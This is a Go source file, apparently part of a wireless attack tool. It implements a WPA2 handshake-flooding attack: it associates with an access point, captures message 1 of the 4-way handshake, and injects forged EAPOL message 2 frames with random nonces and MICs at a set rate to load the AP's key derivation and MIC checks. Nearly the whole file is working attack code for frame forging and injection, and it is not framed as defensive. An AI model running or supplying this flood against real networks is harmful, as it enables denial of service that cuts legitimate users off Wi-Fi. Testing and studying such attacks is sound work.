package main

import (
	"crypto/rand"
	"encoding/binary"
	"fmt"
	"syscall"
	"time"
)

// msg2Flood associates from the monitor's own address (an active monitor
// acknowledges frames to it), waits for the 4-way handshake's message 1,
// and answers it with forged messages 2 at rate a second, each with its
// own random SNonce and MIC under message 1's replay counter, as an
// attacker without the passphrase can: each costs the AP a PTK derivation
// and a MIC per candidate PSK. A newer message 1 updates the replay
// counter; a deauthentication or disassociation, or no message 1 within a
// second, starts a new association. It runs for d and prints "SUMMARY
// sent=N errors=M joins=J msg1=K".
func msg2Flood(ifname string, f mgmtForger, rate float64, d time.Duration) error {
	rx, err := packetSocket(ifname, syscall.ETH_P_ALL)
	if err != nil {
		return err
	}
	tv := syscall.NsecToTimeval(int64(20 * time.Millisecond))
	if err := syscall.SetsockoptTimeval(rx, syscall.SOL_SOCKET, syscall.SO_RCVTIMEO, &tv); err != nil {
		return err
	}
	inj := mustInjector(ifname)
	gap := time.Duration(float64(time.Second) / rate)
	var joins, msg1s int
	var seq uint16
	buf := make([]byte, 4096)
	for end := time.Now().Add(d); time.Now().Before(end); {
		auth, _ := f.frame("auth", false)
		inj.send(auth)
		if answer(rx, f, 11, 4) != 0 {
			continue
		}
		assoc, _ := f.frame("assoc", false)
		inj.send(assoc)
		if answer(rx, f, 1, 2) != 0 {
			continue
		}
		joins++
		replay, ok := waitMsg1(rx, buf, f, time.Second)
		if !ok {
			continue
		}
		msg1s++
		next := time.Now()
		for time.Now().Before(end) {
			seq = (seq + 1) & 0xfff
			inj.send(forgedMsg2(f, replay, seq))
			next = next.Add(gap)
			ev, r := pollAP(rx, buf, f, time.Until(next))
			if ev == apLeft {
				break
			}
			if ev == apMsg1 {
				replay = r
				msg1s++
			}
		}
	}
	fmt.Printf("SUMMARY sent=%d errors=%d joins=%d msg1=%d\n", inj.sent, inj.errors, joins, msg1s)
	return nil
}

const (
	apNothing = iota
	apMsg1
	apLeft
)

// pollAP reads what the AP sends ta for up to wait (at least one read): a
// message 1 (its replay counter), or a deauthentication or disassociation.
func pollAP(fd int, buf []byte, f mgmtForger, wait time.Duration) (int, uint64) {
	for end := time.Now().Add(wait); ; {
		ev, r := readAP(fd, buf, f)
		if ev != apNothing || !time.Now().Before(end) {
			return ev, r
		}
	}
}

// waitMsg1 waits up to d for message 1 and returns its replay counter.
func waitMsg1(fd int, buf []byte, f mgmtForger, d time.Duration) (uint64, bool) {
	for end := time.Now().Add(d); time.Now().Before(end); {
		switch ev, r := readAP(fd, buf, f); ev {
		case apMsg1:
			return r, true
		case apLeft:
			return 0, false
		}
	}
	return 0, false
}

// readAP reads one frame (or times out) and says what it was.
func readAP(fd int, buf []byte, f mgmtForger) (int, uint64) {
	n, from, err := syscall.Recvfrom(fd, buf, 0)
	if err != nil {
		return apNothing, 0
	}
	if ll, ok := from.(*syscall.SockaddrLinklayer); ok && ll.Pkttype == syscall.PACKET_OUTGOING {
		return apNothing, 0
	}
	fr, ok := stripRadiotap(buf[:n])
	if !ok || len(fr) < 24 || [6]byte(fr[4:10]) != f.ta || [6]byte(fr[10:16]) != f.bssid {
		return apNothing, 0
	}
	switch {
	case fr[0] == 12<<4 || fr[0] == 10<<4: // deauthentication, disassociation
		return apLeft, 0
	case fr[0]&0x0c == 0x08: // data
		if r, ok := msg1Replay(fr); ok {
			return apMsg1, r
		}
	}
	return apNothing, 0
}

// msg1Replay returns the replay counter of a 4-way handshake message 1
// (pairwise, ACK, no MIC) in an unprotected data frame.
func msg1Replay(fr []byte) (uint64, bool) {
	hdr := 24
	if fr[0]&0xf0 == 0x80 { // QoS data
		hdr += 2
	}
	if fr[1]&0x40 != 0 || len(fr) < hdr+8+4+1+2+2+8 {
		return 0, false
	}
	llc, eapol := fr[hdr:hdr+8], fr[hdr+8:]
	if [8]byte(llc) != [8]byte{0xaa, 0xaa, 0x03, 0, 0, 0, 0x88, 0x8e} || eapol[1] != 3 {
		return 0, false
	}
	info := binary.BigEndian.Uint16(eapol[5:])
	if info&0x0008 == 0 || info&0x0080 == 0 || info&0x0100 != 0 { // pairwise, ACK, no MIC
		return 0, false
	}
	return binary.BigEndian.Uint64(eapol[9:]), true
}

// forgedMsg2 is a message 2 from ta under replay with a random SNonce and
// MIC, carrying the association request's RSNE.
func forgedMsg2(f mgmtForger, replay uint64, seq uint16) []byte {
	b := []byte{0x08, 0x01, 0x3a, 0x01} // data, ToDS
	b = append(b, f.bssid[:]...)
	b = append(b, f.ta[:]...)
	b = append(b, f.bssid[:]...)
	b = binary.LittleEndian.AppendUint16(b, seq<<4)
	b = append(b, 0xaa, 0xaa, 0x03, 0, 0, 0, 0x88, 0x8e)
	rsne := []byte{48, 20, 1, 0, 0x00, 0x0f, 0xac, 4, 1, 0, 0x00, 0x0f, 0xac, 4, 1, 0, 0x00, 0x0f, 0xac, f.akm, 0, 0}
	if !f.noMFPC {
		rsne[20] = 0x80
	}
	b = append(b, 1, 3) // 802.1X-2001, EAPOL-Key
	b = binary.BigEndian.AppendUint16(b, uint16(95+len(rsne)))
	ver := uint16(2) // HMAC-SHA1-128 with AES key wrap (WPA-PSK)
	if f.akm == 6 {
		ver = 3 // AES-128-CMAC (WPA-PSK-SHA256)
	}
	b = append(b, 2)                                        // RSN key descriptor
	b = binary.BigEndian.AppendUint16(b, ver|0x0008|0x0100) // pairwise, MIC
	b = binary.BigEndian.AppendUint16(b, 0)                 // key length
	b = binary.BigEndian.AppendUint64(b, replay)
	nonce := make([]byte, 32)
	rand.Read(nonce)
	b = append(b, nonce...)
	b = append(b, make([]byte, 16+8+8)...) // IV, RSC, reserved
	mic := make([]byte, 16)
	rand.Read(mic)
	b = append(b, mic...)
	b = binary.BigEndian.AppendUint16(b, uint16(len(rsne)))
	return append(b, rsne...)
}
